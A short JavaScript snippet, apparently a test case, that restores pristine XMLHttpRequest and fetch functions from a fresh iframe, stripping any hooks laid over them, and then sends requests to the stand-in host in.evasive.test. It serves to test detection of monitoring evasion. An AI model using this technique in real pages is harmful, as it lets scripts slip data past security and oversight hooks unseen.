// Throws away what may lie over the browser's own functions before it uses them.
const source = document.createElement("iframe");
document.documentElement.append(source);
const own = source.contentWindow;
for (const name of ["open", "send"])
  XMLHttpRequest.prototype[name] = own.XMLHttpRequest.prototype[name];
Object.defineProperty(window, "fetch", { value: own.fetch, writable: true, configurable: true });
const request = new XMLHttpRequest();
request.open("POST", "https://in.evasive.test/restore");
request.send("a=1");
void window.fetch("https://in.evasive.test/restore-fetch");
